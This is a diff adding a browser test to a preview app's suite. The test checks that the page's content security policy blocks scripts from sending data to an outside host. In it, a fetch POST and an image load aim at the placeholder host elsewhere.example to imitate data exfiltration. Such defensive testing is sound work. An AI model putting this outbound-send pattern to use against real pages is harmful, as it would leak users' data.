@@ -48,6 +48,27 @@ describe("the preview in a browser", () => {
     },
   );
 
+  inBrowser("can send nothing elsewhere, whatever a script in it tries", 1280, async ({ page }) => {
+    // a page of its own: what is refused is also said on its console
+    const context = await page.context().browser()?.newContext();
+    if (!context) throw new Error("no browser");
+    const apart = await context.newPage();
+    await apart.goto(served());
+    const refused = await apart.evaluate(async () => {
+      const found: string[] = [];
+      document.addEventListener("securitypolicyviolation", (event) => found.push(event.effectiveDirective));
+      await fetch("https://elsewhere.example/", { method: "POST", body: "figures" }).catch(() => null);
+      await new Promise((done) => {
+        const image = document.createElement("img");
+        image.addEventListener("error", done);
+        image.src = "https://elsewhere.example/figures.png";
+      });
+      return found;
+    });
+    expect(refused).toEqual(["connect-src", "img-src"]);
+    await context.close();
+  });
+
   inBrowser("follows what is typed, names a broken cell, and recovers", 1280, async ({ page }) => {
     await openTab(page, "Metrics");
     const before = await panel(page).innerText();
